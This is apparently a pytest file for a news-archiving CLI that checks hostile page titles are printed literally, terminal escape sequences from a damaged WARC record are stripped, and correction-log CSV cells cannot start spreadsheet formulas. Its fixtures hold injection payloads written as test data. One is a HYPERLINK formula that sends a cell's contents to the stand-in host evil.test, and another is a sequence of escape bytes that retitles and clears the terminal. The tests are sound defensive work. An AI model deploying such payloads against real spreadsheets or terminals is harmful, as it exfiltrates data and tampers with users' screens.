"""Page text is printed literally (issue 16, item 5): rich markup in a title is neither run
nor swallowed, escape sequences from a damaged WARC record never reach the terminal, and a
correction-log CSV cell never starts a spreadsheet formula.

The pages are served from the loopback newsroom and ingested by the real live run; the
commands run as a user runs them, in a subprocess with their output piped.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest
from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from support.bad_input import GOOD_PARAGRAPHS, Newsroom, article_page, item, rss
from support.loopback import LoopbackServer

# Titles a page may carry, each as it must come out: printed and in the CSV.
MARKUP_TITLE = "Breaking [/x] news"
STYLE_TITLE = "[bold red]Alert[/bold red] rates :fire: rise"
FORMULA_TITLES = {
    "/formula": '=HYPERLINK("http://evil.test/?"&A1,"Click for details")',
    "/plus": "+1 555 0100 is the hotline",
    "/minus": "-5 degrees forecast for the weekend",
    "/at": "@SUM(1+1) sums it up",
}
# OWASP's formula starts: a cell beginning with one is run by a spreadsheet.
RISKY = ("=", "+", "-", "@", "\t", "\r")
MARKUP_PARAGRAPH = "The mayor wrote [bold red]URGENT[/] and [link=http://evil.test]here[/link]."
ADDED_PARAGRAPH = "The vote was held after a three-hour debate in the council chamber."


def cli(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "COLUMNS": "1000"}
    env.pop("NEWSLEDGER_DB", None)
    return subprocess.run(
        [sys.executable, "-m", "newsledger.cli", *args],
        cwd=cwd, env=env, capture_output=True, text=True, timeout=120,
    )  # fmt: skip


@pytest.fixture(scope="module")
def newsroom(tmp_path_factory: pytest.TempPathFactory) -> Newsroom:
    """Pages with hostile titles, ingested twice: each gains a paragraph (so the correction
    log has an entry for each), /markup a paragraph of markup."""
    folder = tmp_path_factory.mktemp("injection")
    with LoopbackServer() as server:
        room = Newsroom(server, folder / "w.duckdb")
        pages = {"/markup": MARKUP_TITLE, "/style": STYLE_TITLE, **FORMULA_TITLES}
        for path, title in pages.items():
            server.route(path, body=article_page(title, GOOD_PARAGRAPHS))
        room.feed("wire", rss("".join(item(room.url(path)) for path in pages)))
        room.run()
        for path, title in pages.items():
            added = MARKUP_PARAGRAPH if path == "/markup" else ADDED_PARAGRAPH
            server.route(path, body=article_page(title, (*GOOD_PARAGRAPHS, added)))
        room.run()
    return room


def _report_id(room: Newsroom, path: str) -> str:
    from newsledger.store.warehouse import Warehouse

    with Warehouse.open(room.db, read_only=True) as warehouse:
        [(report_id,)] = warehouse.fetch_all(
            "SELECT report_id FROM reports WHERE url LIKE ?", [f"http://%{path}"]
        )
    return str(report_id)


def test_reports_prints_titles_with_markup_literally(newsroom: Newsroom) -> None:
    result = cli("reports", "--db", newsroom.db.name, cwd=newsroom.db.parent)
    assert (result.returncode, result.stderr) == (0, "")
    assert MARKUP_TITLE in result.stdout
    assert STYLE_TITLE in result.stdout  # not swallowed as a style, no emoji


def test_diff_prints_inserted_markup_literally(newsroom: Newsroom) -> None:
    report_id = _report_id(newsroom, "/markup")
    result = cli("diff", report_id, "--db", newsroom.db.name, cwd=newsroom.db.parent)
    assert (result.returncode, result.stderr) == (0, "")
    assert result.stdout.splitlines()[-1] == "{+" + MARKUP_PARAGRAPH + "+}"


def test_an_argument_holding_markup_is_echoed_literally_in_the_error(newsroom: Newsroom) -> None:
    result = cli("diff", "[/x][bold]", "--db", newsroom.db.name, cwd=newsroom.db.parent)
    assert (result.returncode, result.stdout) == (2, "")
    assert result.stderr == ("error: no report '[/x][bold]': list them with `newsledger reports`\n")


def test_correction_log_csv_cells_never_start_a_formula(newsroom: Newsroom) -> None:
    out = newsroom.db.parent / "report"
    result = cli("report", "--db", newsroom.db.name, "--out", str(out), cwd=newsroom.db.parent)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO((out / "correction-log.csv").read_text("utf-8"))))
    titles = {row["title"] for row in rows}
    assert {"'" + title for title in FORMULA_TITLES.values()} <= titles
    assert MARKUP_TITLE in titles  # text that is no formula is left as it is
    risky = [(name, cell) for row in rows for name, cell in row.items() if cell.startswith(RISKY)]
    assert risky == []
    assert {row["to_version"] for row in rows} <= {"1", "2"}  # our own numbers stay numbers


def _damaged_warc(path: Path) -> None:
    """One good response record, then a "record" whose first line is escape sequences that
    would retitle the terminal (OSC 0) and clear it (CSI 2J)."""
    buffer = io.BytesIO()
    writer = WARCWriter(buffer, gzip=False)
    http = StatusAndHeaders("200 OK", [("Content-Type", "text/html")], protocol="HTTP/1.1")
    page = article_page("Council passes budget", GOOD_PARAGRAPHS).encode()
    writer.write_record(
        writer.create_warc_record(
            "http://news.test/good", "response", payload=io.BytesIO(page), http_headers=http
        )
    )
    path.write_bytes(buffer.getvalue() + b"\x1b]0;PWNED\x07\x1b[2J\x1b[31mjunk line\r\n\r\n")


def test_a_damaged_warc_records_first_line_reaches_the_terminal_without_escapes(
    tmp_path: Path,
) -> None:
    _damaged_warc(tmp_path / "damaged.warc")
    result = cli("import", "warc", "damaged.warc", "--db", "w.duckdb", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.stderr == (
        "warning: damaged.warc: stopped at a damaged record "
        "(Invalid WARC record, first line: junk line )\n"
    )
    assert "new versions: 1" in result.stdout
